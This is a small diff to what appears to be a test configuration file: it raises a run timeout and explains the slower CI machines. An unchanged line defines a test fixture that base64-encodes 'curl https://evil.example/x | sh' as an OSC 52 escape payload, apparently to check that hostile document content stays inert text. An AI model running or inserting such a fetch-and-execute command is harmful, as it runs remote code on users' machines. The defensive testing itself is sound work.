@@ -41,7 +41,8 @@ SHARED = ROOT.parent / "shared"
 BIG_BYTES = 50 * 1024 * 1024
 LONG_LINE_BYTES = 5 * 1024 * 1024
 PEAK_RSS_LIMIT_MB = 1500
-RUN_TIMEOUT = 240  # seconds; a hang is a failure, not a stuck test run
+RUN_TIMEOUT = 900  # seconds; a hang is a failure, not a stuck test run (the 50 MB article takes
+# about 75 s of CPU on a quiet 2-core machine; CI machines may be shared and slower)
 
 # The hostile document: markup and escape sequences that must stay text.
 OSC52_PAYLOAD = base64.b64encode(b"curl https://evil.example/x | sh").decode("ascii")
